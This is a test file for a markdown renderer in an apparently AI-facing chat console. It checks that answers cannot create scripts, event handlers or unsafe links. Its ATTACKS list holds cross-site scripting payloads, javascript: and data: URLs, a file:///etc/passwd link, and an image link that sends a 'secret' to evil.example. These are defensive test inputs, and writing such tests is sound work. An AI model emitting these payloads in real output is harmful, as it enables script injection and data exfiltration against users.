import { render } from 'lit';
import { markdown, safeAddress } from '../../main/console/markdown/markdown';
import { equal, test } from './harness';

async function rendered(source: string): Promise<HTMLElement> {
  const box = document.createElement('div');
  document.body.append(box);
  render(markdown(source), box);
  await Promise.resolve();
  await Promise.all([...box.querySelectorAll('aa-code-block')].map((block) => (block as HTMLElement & { updateComplete: Promise<boolean> }).updateComplete));
  box.remove();
  return box;
}

const ATTACKS = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  'text <svg onload="window.hit = 1"> text',
  '<iframe src="javascript:window.hit=1"></iframe>',
  '<style>body{display:none}</style>',
  '[a](javascript:window.hit=1)',
  '[a](JaVaScRiPt&colon;window.hit=1)',
  '[a](data:text/html,<script>window.hit=1</script>)',
  '[a](vbscript:x) [b](/chat) [c](//evil.example) [d](file:///etc/passwd)',
  '![words](https://evil.example/?q=secret)',
  '| a |\n|---|\n| <img src=x onerror=window.hit=1> |',
  '```html"><img src=x onerror=window.hit=1>\n<script>window.hit=1</script>\n```',
  '# <b onclick="window.hit=1">x</b>',
  '- <input autofocus onfocus="window.hit=1">',
  '<a href="https://ok.example" onclick="window.hit=1">x</a>',
];

test('Markdown: nothing in an answer becomes an element, an attribute or a request', async () => {
  for (const attack of ATTACKS) {
    const box = await rendered(attack);
    for (const element of box.querySelectorAll('*')) {
      equal(/^(SCRIPT|IMG|IFRAME|STYLE|INPUT|OBJECT|EMBED|LINK|FORM|B)$/.test(element.tagName), false, attack);
      equal([...element.attributes].filter((attribute) => attribute.name.startsWith('on')).length, 0, attack);
    }
    for (const link of box.querySelectorAll('a')) {
      equal(['http:', 'https:', 'mailto:'].includes(link.protocol), true, attack);
      equal(link.origin === location.origin, false, attack);
      equal(link.rel, 'noopener noreferrer nofollow', attack);
    }
  }
  equal((window as { hit?: number }).hit, undefined);
});

test('Markdown: HTML in an answer is shown as the characters it is', async () => {
  equal((await rendered('Use <b>bold</b> &amp; more')).textContent, 'Use <b>bold</b> & more');
});

test('Markdown: headings, lists, tables, quotes, code and links', async () => {
  const box = await rendered('# Title\n\n1. one\n2. two\n\n- [x] done\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n> said\n\n`x` **y** [z](https://z.example/)\n\n```java\nint a = 1;\n```');

  equal(box.querySelector('h3')?.textContent, 'Title');
  equal([...box.querySelectorAll('ol li')].map((item) => item.textContent), ['one', 'two']);
  equal(box.querySelector('ul .task')?.getAttribute('aria-label'), 'done');
  equal([...box.querySelectorAll('td')].map((cell) => cell.dataset['align']), ['left', 'right']);
  equal(box.querySelector('blockquote')?.textContent, 'said');
  equal(box.querySelector('p code')?.textContent, 'x');
  equal(box.querySelector('a')?.href, 'https://z.example/');
  equal(box.querySelector('pre')?.textContent, 'int a = 1;');
  equal(box.querySelector('figcaption span')?.textContent, 'java');
});

test('Markdown: an answer that is still growing can be shown at every length', async () => {
  const whole = '# A\n\n**b** _c_ [d](https://e.example/)\n\n```js\nf()\n```\n\n| g |\n|---|\n| h |';
  for (let length = 0; length <= whole.length; length++) {
    await rendered(whole.slice(0, length));
  }
});

test('Markdown: addresses', () => {
  equal(safeAddress('https://a.example/b'), 'https://a.example/b');
  equal(safeAddress('mailto:a@b.example'), 'mailto:a@b.example');
  equal(['javascript:1', ' javascript:1', 'java\nscript:1', '/chat', '//a.example', 'data:,x', ''].map(safeAddress), [null, null, null, null, null, null, null]);
});
